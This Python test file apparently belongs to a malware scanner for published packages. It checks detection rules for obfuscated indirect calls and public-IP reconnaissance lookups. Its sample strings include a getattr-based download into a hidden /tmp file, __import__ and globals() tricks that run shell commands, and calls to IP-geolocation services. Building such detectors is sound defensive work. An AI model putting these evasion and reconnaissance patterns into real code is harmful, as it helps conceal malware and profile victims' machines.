"""Calls hidden behind lookups, and requests for the machine's public IP; each beside a look-alike that stays
quiet."""

from pypi_platform_tests.lib.scans.python_scan import found, rules


def _lines(source: str, rule: str) -> list[int]:
    return [line for found_rule, line in found(source) if found_rule == rule]


# --- obfuscation.indirect-call -------------------------------------------------------------------------------
def test_obfuscation_indirect_call_through_getattr_import_module_and_globals():
    source = """
    import importlib, os
    getattr(importlib.import_module("urllib.request"), "urlretrieve")("https://files.example/d", "/tmp/.d")
    __import__("subprocess").run(["id"])
    globals()["os"].system("id")
    getattr(__builtins__, "exec")(code)
    """
    assert _lines(source, "obfuscation.indirect-call") == [3, 4, 5, 6]


def test_imported_calls_and_lookups_of_harmless_names_are_no_indirect_call():
    source = """
    import importlib, json, os, subprocess
    subprocess.run(["git", "status"])
    os.system("make")
    getattr(json, "dumps")(data)
    plugin = getattr(importlib.import_module(name), attribute)()
    fork = getattr(os, "fork", None)
    """
    assert "obfuscation.indirect-call" not in rules(source)


# --- recon.public-ip-lookup ----------------------------------------------------------------------------------
def test_recon_public_ip_lookup_services():
    source = """
    import requests, urllib.request
    IPINFO = "https://ipinfo.io/json"
    public_ip = requests.get("https://api.ipify.org", timeout=5).text
    geo = requests.get("http://ip-api.com/json/", timeout=5).json()
    urllib.request.urlopen(IPINFO)
    requests.get(url="https://ifconfig.me/ip")
    """
    assert _lines(source, "recon.public-ip-lookup") == [4, 5, 6, 7]


def test_requests_to_ordinary_hosts_and_paths_naming_ip_are_no_public_ip_lookup():
    source = """
    import requests
    requests.get("https://api.example/ipinfo.io")
    requests.get("https://ipify.org.mirror.example/docs")
    requests.get("https://docs.example/ip-api.com.html")
    """
    assert "recon.public-ip-lookup" not in rules(source)
